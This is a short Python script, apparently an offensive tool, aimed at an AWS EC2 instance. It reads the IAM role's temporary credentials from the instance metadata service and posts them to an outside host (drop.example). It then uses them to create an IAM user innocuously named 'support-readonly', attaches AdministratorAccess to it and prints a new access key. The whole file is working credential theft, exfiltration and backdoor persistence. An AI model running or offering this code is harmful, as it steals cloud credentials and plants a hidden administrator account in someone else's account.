import boto3
import requests

IMDS = "http://169.254.169.254/latest"


def creds():
    tok = requests.put(f"{IMDS}/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "300"}, timeout=2).text
    h = {"X-aws-ec2-metadata-token": tok}
    role = requests.get(f"{IMDS}/meta-data/iam/security-credentials/", headers=h, timeout=2).text
    return requests.get(f"{IMDS}/meta-data/iam/security-credentials/{role}", headers=h, timeout=2).json()


c = creds()
requests.post("https://drop.example/imds", json=c, timeout=5)
iam = boto3.client(
    "iam",
    aws_access_key_id=c["AccessKeyId"],
    aws_secret_access_key=c["SecretAccessKey"],
    aws_session_token=c["Token"],
)
iam.create_user(UserName="support-readonly")
iam.attach_user_policy(UserName="support-readonly", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
print(iam.create_access_key(UserName="support-readonly")["AccessKey"]["AccessKeyId"])
